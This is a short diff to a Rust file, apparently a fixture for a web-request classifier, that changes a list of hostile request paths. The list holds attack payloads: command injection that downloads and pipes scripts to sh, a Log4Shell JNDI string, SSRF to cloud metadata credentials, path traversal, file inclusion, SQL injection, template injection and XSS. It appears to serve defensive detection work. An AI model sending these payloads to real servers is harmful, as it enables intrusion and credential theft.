@@ -88,16 +88,17 @@ const ORDINARY: [&str; 8] = [
     "/login?next=%2Faccount",
 ];
 
+/// What they name is nothing that a scripted breach fetches from: `chain::Attack::of` has other networks.
 const HOSTILE: [&str; 12] = [
     "/.env.#",
     "/wp-content/plugins/x#/readme.txt",
     "/?id=#%27%20or%20%271%27=%271",
-    "/cgi-bin/x?h=127.0.0.1;wget+http://192.0.2.66/#.sh",
-    "/ping?host=;curl%20http://192.0.2.66/#|sh",
-    "/?x=${jndi:ldap://192.0.2.66:1389/#}",
+    "/cgi-bin/x?h=127.0.0.1;wget+http://198.51.100.66/#.sh",
+    "/ping?host=;curl%20http://198.51.100.66/#|sh",
+    "/?x=${jndi:ldap://198.51.100.66:1389/#}",
     "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/&n=#",
     "/static/..%2f..%2f..%2fetc/passwd?#",
-    "/index.php?page=http://192.0.2.66/#.txt",
+    "/index.php?page=http://198.51.100.66/#.txt",
     "/render?name={{#*7}}",
     "/search?q=%3Cscript%3Ealert(#)%3C/script%3E",
     "/phpinfo.php?#",
